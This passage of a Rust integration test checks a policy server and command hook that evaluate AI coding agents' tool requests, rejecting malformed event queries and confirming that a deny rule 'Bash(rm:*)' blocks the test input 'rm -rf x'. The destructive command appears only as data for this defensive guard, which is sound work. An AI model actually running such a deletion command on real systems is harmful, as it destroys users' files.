        ("copilot", "?evnt=permissionRequest"),
        ("cursor", "?event=preToolUse"),
    ] {
        let response = app
            .client
            .post(app.url(&format!("/v1/evaluate/{route}{query}")))
            .bearer_auth(&token)
            .json(&copilot_event("bad", "rm -rf x"))
            .send()
            .await
            .expect("request");
        let message = crate::helpers::assert_error(
            response,
            reqwest::StatusCode::BAD_REQUEST,
            "invalid_query",
        )
        .await;
        assert!(message.contains("`ev"), "{query}: {message}");
    }
    // The command hook: `--event` reaches the server, and decides offline too.
    let dir = tempfile::tempdir().expect("temp dir");
    let file = bundle_file(&dir, &deny_bundle("no-rm", "Bash(rm:*)"));
    for source in [["--url", app.address.as_str()], ["--bundle", file.as_str()]] {
        let mut list = vec!["--agent", "copilot", "--event", "permissionRequest"];
        list.extend(source);
        let output = hook(
            args(&list),
            copilot_event("cli", "rm -rf x"),
            Some(token.clone()),
        )
        .await;
        assert_eq!(stdout_json(&output)["behavior"], "deny", "{list:?}");
    }
    let output = hook(
        args(&[
            "--agent",
            "copilot",
            "--event",
            "permission",
            "--url",
            &app.address,
        ]),
        copilot_event("cli", "ls"),
        Some(token.clone()),
    )
    .await;
    assert_eq!(output.status.code(), Some(2));
    assert!(output.stdout.is_empty());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("--event: unknown copilot event `permission`"),
        "{stderr}"
    );
}
